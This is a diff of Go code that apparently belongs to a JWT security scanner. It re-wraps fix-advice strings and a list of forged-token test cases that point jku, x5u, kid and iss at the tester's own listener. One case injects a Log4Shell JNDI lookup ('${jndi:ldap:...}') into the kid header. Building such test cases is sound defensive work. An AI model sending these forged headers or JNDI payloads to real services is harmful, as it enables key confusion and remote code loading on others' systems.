@@ -9,7 +9,8 @@ import (
 
 const (
 	fixForeign = "verify with the issuer's own keys alone, chosen by the exact kid from its key set; refuse a kid that is not in it"
-	fixNamed   = "never take a key, or the address of one, from the token: ignore or refuse jwk, jku, x5c and x5u, and compare iss with a configured value before anything is fetched; RFC 8725 section 3.10"
+	fixNamed   = "never take a key, or the address of one, from the token: ignore or refuse jwk, jku, x5c and x5u, and compare " +
+		"iss with a configured value before anything is fetched; RFC 8725 section 3.10"
 )
 
 // FixFetch is the fix of an API that fetches what a token names.
@@ -80,9 +81,10 @@ func namedKeyCases() []Case {
 		forgery{"x5u", "x5u names our listener, where our certificate is", address("x5u", "x5u", "/certificate.pem", "http")},
 		forgery{"x5u-https", "x5u names our listener with https", address("x5u-https", "x5u", "/certificate.pem", "https")},
 		forgery{"kid-url", "the kid is the address of our listener", address("kid-url", "kid", "/keys", "http")},
-		forgery{"kid-jndi", "the kid is a JNDI look-up at our listener (CVE-2021-44228)", header(func(k *Kit, o jsonobject.Object) jsonobject.Object {
-			return o.With("kid", jsonobject.Quote("${jndi:"+k.callback.urlFor("ldap", "kid-jndi")+"}"))
-		})},
+		forgery{"kid-jndi", "the kid is a JNDI look-up at our listener (CVE-2021-44228)",
+			header(func(k *Kit, o jsonobject.Object) jsonobject.Object {
+				return o.With("kid", jsonobject.Quote("${jndi:"+k.callback.urlFor("ldap", "kid-jndi")+"}"))
+			})},
 		forgery{"iss-url", "iss names our listener, which has discovery and keys", issuer("iss-url", "http")},
 		forgery{"iss-url-https", "iss names our listener with https", issuer("iss-url-https", "https")},
 	)
